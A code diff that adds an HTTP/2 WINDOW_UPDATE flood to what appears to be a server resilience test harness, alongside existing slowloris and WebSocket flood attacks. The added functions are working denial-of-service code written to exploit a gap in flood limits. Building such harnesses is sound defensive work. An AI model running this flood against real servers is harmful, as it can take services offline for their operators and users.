@@ -302,6 +302,42 @@ async def ws_frame_flood(port: int, count: int, seconds: float, size: int) -> di
     return {"opened": len(conns), "frames_sent": sent, "seconds": round(elapsed, 2)}
 
 
+H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def h2_frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    """One HTTP/2 frame (RFC 9113 §4.1)."""
+    return (len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big")
+            + payload)
+
+
+async def h2_open(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
+    """A cleartext HTTP/2 connection with prior knowledge, once the server's SETTINGS came."""
+    reader, writer = await asyncio.open_connection(HOST, port)
+    writer.write(H2_PREFACE + h2_frame(0x4, 0, 0, b""))
+    head = await reader.readexactly(9)
+    if head[3] != 0x4:
+        writer.close()
+        raise OSError(f"no HTTP/2 SETTINGS: {head!r}")
+    return reader, writer
+
+
+async def h2_window_flood(port: int, count: int, seconds: float, size: int) -> dict[str, Any]:
+    """``count`` HTTP/2 connections, each sending ``size`` WINDOW_UPDATE frames of the
+    connection's window (13 bytes each, increment 1: the frame no flood bound counts) without
+    reading, held open until ``seconds`` have passed."""
+    conns = await open_all(count, lambda: h2_open(port))
+    started = time.monotonic()
+    ready()
+    sent = await flood(conns, h2_frame(0x8, 0, 0, (1).to_bytes(4, "big")), size,
+                       started + seconds)
+    elapsed = time.monotonic() - started
+    await hold(started + seconds)
+    for _, writer in conns:
+        writer.close()
+    return {"opened": len(conns), "frames_sent": sent, "seconds": round(elapsed, 2)}
+
+
 ATTACKS: dict[str, Callable[[int, int, float, int], Coroutine[Any, Any, dict[str, Any]]]] = {
     "idle": idle,
     "slowloris": slowloris,
@@ -309,6 +345,7 @@ ATTACKS: dict[str, Callable[[int, int, float, int], Coroutine[Any, Any, dict[str
     "pipelined": pipelined,
     "ws-ping-flood": ws_ping_flood,
     "ws-frame-flood": ws_frame_flood,
+    "h2-window-flood": h2_window_flood,
 }
 
 
